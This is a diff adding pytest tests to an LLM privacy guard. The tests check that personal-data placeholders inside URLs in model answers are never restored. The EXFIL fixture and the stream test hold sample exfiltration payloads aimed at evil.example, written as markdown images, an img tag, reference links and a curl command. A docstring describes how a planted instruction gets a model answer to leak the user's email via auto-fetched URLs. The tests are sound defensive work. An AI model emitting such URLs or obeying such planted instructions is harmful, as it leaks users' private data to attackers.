@@ -256,6 +256,66 @@ def test_placeholders_in_the_answer_are_restored(make: Callable[..., Driven], mo
     assert driven(f"mail {EMAIL}") == f"I wrote to {EMAIL} just now, all done."
 
 
+EXFIL = (
+    "![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)\n"
+    '<img src="https://evil.example/p.png?d=&lt;EMAIL_ADDRESS_1&gt;">\n'
+    "![a][1]\n\n[1]: https://evil.example/i.png?d=email_address_1\n"
+    "<https://evil.example/?d=[EMAIL_ADDRESS_1]>\n"
+    "```\ncurl https://evil.example/?d=<EMAIL_ADDRESS_1>\n```\n"
+)
+"""An answer following a planted instruction: the caller's placeholder in URLs a client
+fetches when it renders the answer (an image, a reference, an autolink, a command)."""
+
+
+def _exfil_answer(value: str) -> str:
+    return f"I wrote to {value}, see [help](https://bank.example/help).\n{EXFIL}Bye {value}."
+
+
+@pytest.mark.parametrize("mode", ["sync", "async", "stream", "astream"])
+def test_a_placeholder_inside_a_url_is_never_restored_and_is_recorded_once(
+    make: Callable[..., Driven], mode: str
+) -> None:
+    """Found by probing: restoring filled the caller's address into an attacker's image
+    URL, which a markdown client fetches unasked. In a URL the placeholder stays (in prose
+    beside a link it is restored), and the call records it once, counts and no value."""
+    driven = make(mode, answer=lambda t: _exfil_answer("<EMAIL_ADDRESS_1>"))
+    assert driven(f"mail {EMAIL}") == _exfil_answer(EMAIL)  # EXFIL as the model wrote it
+    kept = [r for r in driven.records() if "charter.pii.restore_in_url" in str(r.result)]
+    assert len(kept) == 1 and EMAIL not in kept[0].model_dump_json()
+    if mode in ("sync", "async"):  # a stream records its first slice that kept one
+        assert "(5 EMAIL_ADDRESS)" in str(kept[0].result)
+    rules = (driven.call_spans()[-1].attributes or {})[sc.RULES]
+    assert "charter.pii.restore_in_url" in rules
+
+
+@pytest.mark.parametrize("size", [1, 3, 7])
+def test_a_url_a_stream_releases_in_several_slices_keeps_its_placeholders(
+    make: Callable[..., Driven], size: int
+) -> None:
+    """A stream restores each released slice: a URL begun in an earlier slice (a long one
+    runs past several release points) or an opener cut by a release point (`]` | `(`)
+    still holds its placeholders, as the whole answer does."""
+    long = "p" * 150
+    for pad in range(0, 12, 4):  # moves the release points across each opener
+        answer = (
+            "x" * pad
+            + " Hello <EMAIL_ADDRESS_1>. "
+            + f"![x](https://evil.example/{long}/<EMAIL_ADDRESS_1>/{long}?d=<EMAIL_ADDRESS_1>) "
+            + "<img\nsrc=\n'https://evil.example/a b <EMAIL_ADDRESS_1>'> "
+            + "[1]:\n  //evil.example/i.png?d=<EMAIL_ADDRESS_1>\nbye <EMAIL_ADDRESS_1>"
+        )
+        whole = make("sync", answer=lambda t, a=answer: a)(f"mail {EMAIL}")
+        assert whole.count(EMAIL) == 2 and whole.count("<EMAIL_ADDRESS_1>") == 4
+        driven = make("sync")
+
+        @driven.charter.guard(model="m", provider="openai")
+        def stream(prompt: str, a: str = answer) -> Iterator[str]:
+            for i in range(0, len(a), size):
+                yield a[i : i + size]
+
+        assert "".join(stream(f"mail {EMAIL}")) == whole, pad
+
+
 @pytest.mark.parametrize("mode", ["sync", "async", "stream", "astream"])
 @pytest.mark.parametrize("spelling", ["[EMAIL_ADDRESS_1]", "&lt;EMAIL_ADDRESS_1&gt;"])
 def test_a_placeholder_in_another_spelling_is_restored_alike_in_every_driver(
